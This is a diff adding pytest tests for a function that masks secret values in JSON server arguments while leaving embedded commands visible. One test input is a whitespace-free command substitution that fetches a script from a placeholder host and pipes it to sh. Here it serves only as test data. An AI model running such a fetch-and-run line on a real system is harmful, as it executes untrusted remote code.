@@ -42,6 +42,20 @@ def test_a_command_under_the_name_of_a_secret_in_json_is_shown() -> None:
     assert "a1b2c3" not in shown
 
 
+@pytest.mark.parametrize("code", ["$(curl${IFS}h.example|sh)", "/tmp/start", "./helper.js", "helper.js", "a;b"])
+def test_code_without_white_space_under_the_name_of_a_secret_in_json_is_shown(code: str) -> None:
+    argument = json.dumps({"token": ["/bin/sh", "-c", code], "password": {"exec": code, "key": "a1b2c3"}})
+    shown = json.loads(masked_argv(make_server("run", argument))[1])
+    assert shown["token"] == ["/bin/sh", "-c", code]
+    assert shown["password"]["exec"] == code
+    assert "a1b2c3" not in shown["password"].values()
+
+
+def test_json_with_a_name_that_occurs_twice_is_shown_with_both_values() -> None:
+    argument = '{"password": ["hunter"], "run": "/bin/first", "run": "second"}'
+    assert masked_argv(make_server("run", argument)) == ("run", argument)
+
+
 def test_json_without_a_secret_in_an_argument_is_shown_as_it_is() -> None:
     argument = '--config={ "tokens": 5,"passthrough": ["x"] , "password": "${env:DB_PASSWORD}"}'
     assert masked_argv(make_server("run", argument)) == ("run", argument)
